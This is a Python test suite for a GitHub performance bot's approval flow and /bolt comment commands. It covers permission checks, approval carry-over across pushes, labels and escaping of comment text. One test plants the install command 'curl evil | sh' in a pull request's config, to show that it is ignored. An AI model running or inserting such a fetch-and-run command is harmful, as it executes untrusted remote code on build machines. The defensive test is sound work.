"""Approvals and /bolt commands on the GitHub double behind prism, driven by real webhook payloads."""

from __future__ import annotations

import subprocess
import sys
import types
from pathlib import Path

import pytest

pytest.importorskip("github")

from bolt_bot.github import action
from bolt_bot.decide import gate
from bolt_bot.github import events
from bolt_bot.report import messages
from bolt_bot.report import state as comment_state
from bolt_bot.errors import EXIT_REGRESSION
from bolt_bot.model import IMPROVED, REGRESSED, UNCHANGED
from bolt_bot.report.output import write_results_dir
from bolt_bot.report.state import COMMENT_LIMIT, read_state
from bolt_bot.settings import Settings
from tests.conftest import commit, git, make_repo
from tests.ghdouble.webhooks import load_event
from tests.test_action import FakeMeasure, run, runner_env
from tests.test_publish import make_results

_conftest = Path(__file__).with_name("conftest.py")
if not (_conftest.exists() and "ghdouble.fixtures" in _conftest.read_text(encoding="utf-8")):
    from tests.ghdouble.fixtures import gh, github_double, webhook  # noqa: F401


class Measure(FakeMeasure):
    """FakeMeasure whose regressed stages have the given ratio (make_results gives +9.2 %)."""

    def __init__(self, verdict: str = REGRESSED, ratio: float | None = None, names: tuple[str, ...] | None = None):
        super().__init__(verdict)
        self.ratio, self.names = ratio, names

    def __call__(self, request):
        self.requests.append(request)
        kw = {"names": self.names} if self.names else {}
        results = make_results(request.head, request.base or "0" * 40, verdict=self.verdict, **kw)
        for s in results.regressions:
            if self.ratio is not None:
                s.ratio, s.ci = self.ratio, [self.ratio - 0.01, self.ratio + 0.01]
        write_results_dir(results, request.out)
        return results, Settings().updated(request.overrides, "inputs")


def push_event(pr, head_sha: str) -> dict:
    return load_event("pull_request", "synchronize", repo=pr.repo, number=pr.number, head_sha=head_sha,
                      base_sha=pr.base_sha, head_ref=pr.head_ref, base_ref=pr.base_ref)


def measure(gh, tmp_path, pr, head_sha: str | None = None, measure=None, **inputs):
    env = runner_env(gh, tmp_path, "pull_request", push_event(pr, head_sha or pr.head_sha), pr.token, **inputs)
    return run(env, measure or Measure())


def command(gh, tmp_path, pr, user: str, body: str, *, on_pr: bool = True, association: str | None = None, **inputs):
    """A real issue_comment payload for a comment that exists on the double (reactions need its id)."""
    comment = gh.add_comment(pr.repo, pr.number, body, user=user)
    event = load_event("issue_comment", "created", repo=pr.repo, number=pr.number, on_pr=on_pr, commenter=user,
                       body=body, author_association=association)
    event["comment"]["id"] = comment.id
    event["issue"]["labels"] = [{"name": n} for n in gh.labels(pr.repo, pr.number)]
    code, _ = run(runner_env(gh, tmp_path, "issue_comment", event, pr.token, **inputs))
    return code, comment


def label_event(gh, tmp_path, pr, user: str, name: str = "perf-approved", action_name: str = "labeled", **inputs):
    issue = gh.pull(pr.repo, pr.number)
    if action_name == "labeled":
        gh.add_label(pr.repo, name)
        if name not in issue.labels:
            issue.labels.append(name)
    else:
        issue.labels.remove(name)
    event = load_event("pull_request", action_name, repo=pr.repo, number=pr.number, head_sha=pr.head_sha,
                       base_sha=pr.base_sha, sender=user)
    event["label"] = {**event["label"], "name": name}
    event["pull_request"]["labels"] = [{"name": n} for n in issue.labels]
    return run(runner_env(gh, tmp_path, "pull_request", event, pr.token, **inputs))


def bolt_comment(gh, pr):
    found = [c for c in gh.comments(pr.repo, pr.number) if c.body.startswith("<!-- bolt:comment -->")]
    assert len(found) == 1
    return found[0]


def replies(gh, pr) -> list[str]:
    return [c.body for c in gh.comments(pr.repo, pr.number) if c.user == "github-actions[bot]"
            and not c.body.startswith("<!-- bolt:comment -->")]


def reactions(comment) -> list[str]:
    return [r.content for r in comment.reactions]


def last_status(gh, pr, sha: str | None = None):
    return gh.statuses(pr.repo, sha or pr.head_sha)[-1]


# ------------------------------------------------------------------------- the issue's acceptance scenario


def test_approval_needs_write_permission_checked_through_the_api(gh, tmp_path):
    pr = gh.seed_pr()
    code, _ = measure(gh, tmp_path, pr, **{"fail-on-regression": "true"})
    assert code == EXIT_REGRESSION and last_status(gh, pr).state == "failure"
    assert "needs a maintainer's approval" in bolt_comment(gh, pr).body

    # The author (read) claims to be the OWNER in the event: Bolt asks the API instead.
    code, _ = command(gh, tmp_path, pr, pr.author, "/bolt approve trust me", association="OWNER")
    assert code == 0
    assert [s.state for s in gh.statuses(pr.repo, pr.head_sha)] == ["failure"]  # not touched at all
    assert read_state(bolt_comment(gh, pr).body)["approval"] is None
    assert gh.labels(pr.repo, pr.number) == ["perf-regression"]
    assert reactions(gh.comments(pr.repo, pr.number)[1]) == ["confused"]
    refusals = replies(gh, pr)
    assert len(refusals) == 1 and f"@{pr.author}" in refusals[0] and "write permission" in refusals[0]

    code, approved = command(gh, tmp_path, pr, pr.maintainer, "/bolt approve the new parser is worth +9 %\nthanks!")
    assert code == 0
    status = last_status(gh, pr)
    assert (status.state, status.description) == ("success", "approved by maintainer: the new parser is worth +9 %")
    body = bolt_comment(gh, pr).body
    assert f"✅ **Approved** by maintainer for `{pr.head_sha[:7]}`" in body
    assert "the new parser is worth +9 %" in body and "needs a maintainer's approval" not in body
    state = read_state(body)
    assert state["approval"]["user"] == "maintainer" and state["approval"]["sha"] == pr.head_sha
    assert state["approval"]["stages"] == {"tests/bench.py::test_parse": 1.092}
    assert state["head_sha"] == pr.head_sha and state["verdict"] == REGRESSED  # publish's keys untouched
    assert "perf-approved" in gh.labels(pr.repo, pr.number)
    assert reactions(next(c for c in gh.comments(pr.repo, pr.number) if c.id == approved.id)) == ["+1"]
    assert len(replies(gh, pr)) == 1  # an approval answers with a reaction, not another comment
    # permission came from the API, once per command
    assert len(gh.requests_matching("GET", "/repos/*/*/collaborators/*/permission")) == 2
    # Bolt's own label echoed back as an event (a personal token would trigger one): the reason stays
    label_event(gh, tmp_path, pr, pr.maintainer)
    assert read_state(bolt_comment(gh, pr).body)["approval"]["reason"] == "the new parser is worth +9 %"

    # re-measuring the same head with the same result keeps the approval and the exit code follows it
    code, _ = measure(gh, tmp_path, pr, **{"fail-on-regression": "true"})
    assert code == 0 and last_status(gh, pr).state == "success"


def test_a_push_that_makes_a_regressed_stage_worse_clears_the_approval(gh, tmp_path):
    pr = gh.seed_pr()
    measure(gh, tmp_path, pr)
    command(gh, tmp_path, pr, pr.maintainer, "/bolt approve acceptable for the feature")
    assert last_status(gh, pr).state == "success"

    # a push within the threshold (+9.2 % -> +10.5 %, 1.2 % worse than approved): the approval holds
    second = "1" * 40
    gh.add_commit(pr.repo, second)
    gh.pull(pr.repo, pr.number).head_sha = second
    code, _ = measure(gh, tmp_path, pr, second, Measure(ratio=1.105), **{"fail-on-regression": "true"})
    assert code == 0
    assert last_status(gh, pr, second).description == "approved by maintainer: acceptable for the feature"
    body = bolt_comment(gh, pr).body
    assert f"still holds for `{second[:7]}`" in body and read_state(body)["approval"]["holds_for"] == second

    # a push that makes test_parse +25 %: more than 3 % worse than approved -> cleared, and says why
    third = "2" * 40
    gh.add_commit(pr.repo, third)
    gh.pull(pr.repo, pr.number).head_sha = third
    code, _ = measure(gh, tmp_path, pr, third, Measure(ratio=1.25), **{"fail-on-regression": "true"})
    assert code == EXIT_REGRESSION
    status = last_status(gh, pr, third)
    assert status.state == "failure" and status.description == "1 stage slower: test_parse +25.0 %"
    body = bolt_comment(gh, pr).body
    state = read_state(body)
    assert state["approval"] is None and "test_parse got worse (+9.2 % → +25.0 %" in state["approval_note"]
    assert "⚠️ **Approval cleared**: the approval by maintainer for" in body
    assert "✅" not in body
    assert "perf-approved" not in gh.labels(pr.repo, pr.number)  # the label went with the approval
    assert len(gh.comments(pr.repo, pr.number)) == 2  # the sticky comment and the approval command only


def test_a_push_with_a_new_regressed_stage_needs_a_new_approval():
    approved = make_results("a" * 40)
    state = {"approval": {"user": "m", "sha": "a" * 40, "reason": "ok",
                          "stages": {s.name: s.ratio for s in approved.regressions}}}
    fewer = make_results("b" * 40, verdict=UNCHANGED)
    kept, note = gate.carry_over(state, fewer, 3.0)
    assert note is None and kept["holds_for"] == "b" * 40 and kept["stages"] == state["approval"]["stages"]
    more = make_results("c" * 40, names=("tests/bench.py::test_parse", "tests/bench.py::test_dump"))
    cleared, note = gate.carry_over(state, more, 3.0)
    assert cleared is None and "test_dump regressed (+9.2 %), which the approval did not cover" in note
    worse = make_results("d" * 40)
    worse.stages[0].ratio = 1.13  # 3.5 % worse than +9.2 %
    assert gate.carry_over(state, worse, 3.0)[0] is None
    assert gate.carry_over(state, worse, 4.0)[0] is not None
    worse.stages[0].measure = "instructions"  # counts have their own, tighter threshold
    assert gate.carry_over(state, worse, 4.0, instr_threshold=1.0)[0] is None
    assert gate.carry_over({"approval": None}, worse, 3.0) == (None, None)
    assert gate.carry_over(None, worse, 3.0) == (None, None)


# ------------------------------------------------------------------------------- the perf label


def test_a_perf_labelled_change_stays_pending_until_the_label_approves_it(gh, tmp_path):
    pr = gh.seed_pr(labels=("perf",))
    code, _ = measure(gh, tmp_path, pr, measure=Measure(verdict=UNCHANGED))
    assert code == 0
    status = last_status(gh, pr)
    assert status.state == "pending"
    assert status.description.startswith("perf label: no measurable improvement; waiting for a maintainer's approval")
    body = bolt_comment(gh, pr).body  # on-change would stay quiet, but this change waits for an approval
    assert "🏷️ Labelled `perf`: no measurable improvement." in body
    assert "This perf-labelled change needs a maintainer's approval" in body

    code, _ = label_event(gh, tmp_path, pr, pr.maintainer)
    assert code == 0
    status = last_status(gh, pr)
    assert (status.state, status.description) == ("success", "approved by maintainer: added the perf-approved label")
    body = bolt_comment(gh, pr).body
    assert "(the `perf-approved` label)" in body and read_state(body)["approval"]["via"] == "label"
    assert replies(gh, pr) == []

    # the maintainer takes the label off again: the approval is withdrawn and the status waits once more
    code, _ = label_event(gh, tmp_path, pr, pr.maintainer, action_name="unlabeled")
    assert last_status(gh, pr).state == "pending"
    assert "maintainer withdrew the approval" in read_state(bolt_comment(gh, pr).body)["approval_note"]


def test_a_measured_improvement_is_reported_for_the_perf_label(gh, tmp_path):
    pr = gh.seed_pr(labels=("perf",))
    measure(gh, tmp_path, pr, measure=Measure(verdict=IMPROVED))
    assert last_status(gh, pr).state == "pending"
    assert "measured -15.0 % in test_parse" in bolt_comment(gh, pr).body
    command(gh, tmp_path, pr, pr.owner, "/bolt approve verified locally too")
    assert last_status(gh, pr).description == "approved by octo-org: verified locally too"
    results = make_results("a" * 40, verdict=IMPROVED)
    results.stages[0].ratio = 0.55
    assert gate.claim_text(results) == "-45.0 % in test_parse"
    results.stages[0].ratio = 0.125  # the same rule as the comment's table: the factor from 2x faster on
    assert gate.claim_text(results) == "-87.5 % (8.0× faster) in test_parse"


def test_the_approval_label_from_a_user_without_permission_is_removed_with_a_note(gh, tmp_path):
    pr = gh.seed_pr()
    measure(gh, tmp_path, pr)
    code, _ = label_event(gh, tmp_path, pr, pr.author)
    assert code == 0
    assert gh.labels(pr.repo, pr.number) == ["perf-regression"]
    assert [s.state for s in gh.statuses(pr.repo, pr.head_sha)] == ["failure"]
    notes = replies(gh, pr)
    assert len(notes) == 1 and "removed the `perf-approved` label" in notes[0] and "write permission" in notes[0]
    assert read_state(bolt_comment(gh, pr).body)["approval"] is None


def test_an_approval_racing_a_push_never_puts_the_old_report_back(gh, tmp_path, monkeypatch):
    """The run for a newer head rewrites the comment between the approval's read and its write."""
    pr = gh.seed_pr()
    measure(gh, tmp_path, pr)
    newer = "3" * 40
    gh.add_commit(pr.repo, newer)
    from bolt_bot.github.client import Client

    real_find = Client.find_comment
    calls = {"n": 0}

    def find_then_a_push_lands(self, number):
        found = real_find(self, number)
        calls["n"] += 1
        if calls["n"] == 1:  # the approval has read the comment: now the newer head's run publishes
            gh.pull(pr.repo, pr.number).head_sha = newer
            measure(gh, tmp_path, pr, newer, Measure(ratio=1.4))
        return found

    monkeypatch.setattr(Client, "find_comment", find_then_a_push_lands)
    command(gh, tmp_path, pr, pr.maintainer, "/bolt approve fine for the old head")
    monkeypatch.setattr(Client, "find_comment", real_find)
    state = read_state(bolt_comment(gh, pr).body)
    assert state["head_sha"] == newer and state["approval"] is None  # the newer report stands, unapproved
    assert "+40.0 %" in bolt_comment(gh, pr).body
    assert last_status(gh, pr, newer).state == "failure"
    assert "approve again" in [c.body for c in gh.comments(pr.repo, pr.number)][-1]


def test_approvers_admin_refuses_a_maintainer_and_accepts_the_owner(gh, tmp_path):
    pr = gh.seed_pr()
    measure(gh, tmp_path, pr)
    command(gh, tmp_path, pr, pr.maintainer, "/bolt approve fine", approvers="admin")
    assert last_status(gh, pr).state == "failure" and "admin permission" in replies(gh, pr)[0]
    command(gh, tmp_path, pr, pr.owner, "/bolt approve fine by me", approvers="admin")
    assert last_status(gh, pr).state == "success"


def test_an_approving_review_counts_only_when_enabled(gh, tmp_path):
    pr = gh.seed_pr()
    measure(gh, tmp_path, pr)
    event = load_event("pull_request_review", "submitted", repo=pr.repo, number=pr.number)
    event["review"]["state"] = "approved"
    event["review"]["body"] = "LGTM, the slowdown buys correctness"
    event["review"]["user"]["login"] = pr.maintainer
    before = len(gh.requests)
    code, _ = run(runner_env(gh, tmp_path, "pull_request_review", event, pr.token))
    assert code == 0 and len(gh.requests) == before and last_status(gh, pr).state == "failure"
    code, _ = run(runner_env(gh, tmp_path, "pull_request_review", event, pr.token, **{"approve-by-review": "true"}))
    status = last_status(gh, pr)
    assert (status.state, status.description) == ("success", "approved by maintainer: LGTM, the slowdown buys correctness")
    assert "(an approving review)" in bolt_comment(gh, pr).body


def test_approve_without_a_reason_or_before_a_report(gh, tmp_path):
    pr = gh.seed_pr()
    command(gh, tmp_path, pr, pr.maintainer, "/bolt approve")
    assert "please say why" in replies(gh, pr)[0]
    command(gh, tmp_path, pr, pr.maintainer, "/bolt approve because")
    assert "has not reported on this pull request yet" in replies(gh, pr)[1]
    assert gh.statuses(pr.repo, pr.head_sha) == []


# ------------------------------------------------------------------------------- other commands


def test_commands_on_issues_bots_and_plain_comments_are_ignored(gh, tmp_path):
    pr = gh.seed_pr()
    gh.add_issue(pr.repo, 8)
    event = load_event("issue_comment", "created", repo=pr.repo, number=8, on_pr=False, commenter=pr.maintainer,
                       body="/bolt approve fine")
    # One notice from the dispatcher (to the runtime's stdout), no call to GitHub.
    assert run(runner_env(gh, tmp_path, "issue_comment", event, pr.token)) == \
        (0, "::notice title=Bolt::nothing to do for a comment on an issue, not on a pull request\n")
    event = load_event("issue_comment", "created", repo=pr.repo, number=pr.number, on_pr=True,
                       commenter=pr.maintainer, body="Looks good; I will run /bolt later")
    run(runner_env(gh, tmp_path, "issue_comment", event, pr.token))
    assert gh.requests == []


def test_help_run_and_unknown_commands(gh, tmp_path):
    pr = gh.seed_pr()
    command(gh, tmp_path, pr, pr.maintainer, "/bolt help")
    assert "`/bolt approve <reason>`" in replies(gh, pr)[0]
    command(gh, tmp_path, pr, pr.maintainer, "/bolt run")
    run_reply = replies(gh, pr)[1]
    assert "re-run the Bolt job" in run_reply and f"/pull/{pr.number}/checks" in run_reply
    command(gh, tmp_path, pr, pr.maintainer, "/bolt frobnicate")
    assert "does not know `/bolt frobnicate`" in replies(gh, pr)[2]
    command(gh, tmp_path, pr, pr.author, "/bolt run")
    assert "write permission" in replies(gh, pr)[3]
    by_id = {c.id: c for c in gh.comments(pr.repo, pr.number)}
    commands = [c for c in by_id.values() if c.body.startswith("/bolt")]
    assert [reactions(c) for c in commands] == [["+1"], ["eyes"], ["confused"], ["confused"]]
    # no reply can be read as a command: commands in replies are always quoted
    assert all(events.parse_command(text) is None for text in replies(gh, pr))


def _git_repo(path: Path) -> str:
    path.mkdir(parents=True, exist_ok=True)
    for args in (["init", "-q"], ["config", "user.email", "t@example.invalid"], ["config", "user.name", "T"],
                 ["commit", "-q", "--allow-empty", "-m", "head"]):
        subprocess.run(["git", "-C", str(path), *args], check=True, capture_output=True)
    return subprocess.run(["git", "-C", str(path), "rev-parse", "HEAD"], check=True, capture_output=True,
                          text=True).stdout.strip()


def test_profile_runs_on_the_prs_head_when_the_workspace_has_it(gh, tmp_path, monkeypatch):
    for key in ("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"):  # restored after the test
        monkeypatch.setenv(key, "0" if key == "GIT_CONFIG_COUNT" else "")
    # The base's [tool.bolt] names no install command; the pull request adds one: it must not run here.
    workspace = make_repo(tmp_path / "workspace", {"pyproject.toml": '[tool.bolt]\nrounds = 4\n'})
    base = git(workspace, "rev-parse", "HEAD")
    sha = commit(workspace, {"pyproject.toml": '[tool.bolt]\nrounds = 1\ninstall = "curl evil | sh"\n'}, "head")
    pr = gh.seed_pr(head_sha=sha, base_sha=base)
    calls, used = [], []

    def profile_report(repo, ref, filter_, out, overrides=None):
        calls.append((Path(repo), ref, filter_))
        used.append(overrides)
        out.mkdir(parents=True, exist_ok=True)
        (out / "report.md").write_text("# ⚡ Bolt profile of x\n\n## Time per stage\n\n| parse | 40 % |\n\n"
                                       "## Hot functions per stage\n\nlots of detail\n")
        return out / "report.md"

    monkeypatch.setitem(sys.modules, "bolt_bot.profiling.fullreport", types.SimpleNamespace(profile_report=profile_report))
    monkeypatch.setattr(events, "optional_module", lambda name: sys.modules.get(name))
    command(gh, tmp_path, pr, pr.maintainer, "/bolt profile -k parse")
    assert calls == [(tmp_path / "workspace", sha, "parse")]
    # every setting given, from the base: profile_report's own reading of the head's table is overridden
    assert used[0]["install"] == "" and used[0]["rounds"] == 4
    assert Settings().updated({"install": "curl evil | sh"}, "head").updated(used[0], "base").install is None
    reply = replies(gh, pr)[0]
    assert reply.startswith("#### ⚡ Bolt profile of x") and "## Time per stage" in reply
    assert "lots of detail" not in reply and "job summary" in reply
    assert reactions(gh.comments(pr.repo, pr.number)[0]) == ["eyes", "+1"]

    # a head the checkout does not hold: explained, nothing run
    gh.pull(pr.repo, pr.number).head_sha = gh.add_commit(pr.repo, "9" * 40)
    command(gh, tmp_path, pr, pr.maintainer, "/bolt profile")
    assert len(calls) == 1 and "does not hold 9999999" in replies(gh, pr)[1]


def test_run_measures_the_prs_head_again_when_the_workspace_has_it(gh, tmp_path, monkeypatch):
    for key in ("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"):  # restored after the test
        monkeypatch.setenv(key, "0" if key == "GIT_CONFIG_COUNT" else "")
    sha = _git_repo(tmp_path / "workspace")
    pr = gh.seed_pr(head_sha=sha)
    measure = FakeMeasure()
    comment = gh.add_comment(pr.repo, pr.number, "/bolt run", user=pr.maintainer)
    event = load_event("issue_comment", "created", repo=pr.repo, number=pr.number, on_pr=True,
                       commenter=pr.maintainer, body="/bolt run")
    event["comment"]["id"] = comment.id
    code, _ = run(runner_env(gh, tmp_path, "issue_comment", event, pr.token), measure=measure)
    assert code == 0  # fail-on-regression is off
    assert [(r.head, r.base) for r in measure.requests] == [(sha, pr.base_sha)]
    bolt = [c for c in gh.comments(pr.repo, pr.number) if c.body.startswith("<!-- bolt:comment -->")]
    assert len(bolt) == 1 and "1 stage slower" in bolt[0].body
    assert [s.state for s in gh.statuses(pr.repo, sha)] == ["failure"]
    assert reactions(gh.comments(pr.repo, pr.number)[0]) == ["eyes", "+1"]


def test_profile_of_a_fork_is_refused(gh, tmp_path):
    pr = gh.seed_pr(fork=True)
    command(gh, tmp_path, pr, pr.maintainer, "/bolt profile")
    assert "comes from a fork" in replies(gh, pr)[0]


# ------------------------------------------------------------------------------- the comment itself


def test_the_block_is_rewritten_in_place_and_fits_the_size_limit():
    settings = Settings()
    body = "<!-- bolt:comment -->\n<!-- bolt:state {} -->\n### ⚡ 1 stage slower\n\n| | Stage |\n"
    state = {"verdict": REGRESSED, "regressed": {"a": 1.1}, "approval": None}
    once = messages.with_block(body, state, settings, gate.stored_gate(state).needed)
    assert once.count(comment_state.BLOCK_START) == 1 and "needs a maintainer's approval" in once
    approved = {**state, "approval": {"user": "m", "sha": "a" * 40, "reason": "<b>@team</b>", "at": "today"}}
    twice = messages.with_block(once, approved, settings, gate.stored_gate(approved).needed)
    assert twice.count(comment_state.BLOCK_START) == 1 and "needs a maintainer" not in twice
    assert "&lt;b&gt;&#64;\u2060team&lt;/b&gt;" in twice  # the reason cannot mention or inject
    big = body + "".join(f"| ⚪ | tests/t.py::test_{i} | 1 | 1 | +0 % | |\n" for i in range(2000))
    big = big[: COMMENT_LIMIT - 50].rsplit("\n", 1)[0] + "\n"
    assert len(messages.with_block(big, approved, settings, gate.stored_gate(approved).needed)) <= COMMENT_LIMIT
    assert events.parse_command("hi\n  /bolt APPROVE  because  it is\nfine") == ("approve", "because it is")
    assert events.parse_command("/bolt") == ("help", "")
    assert events.parse_command("see `/bolt run`") is None

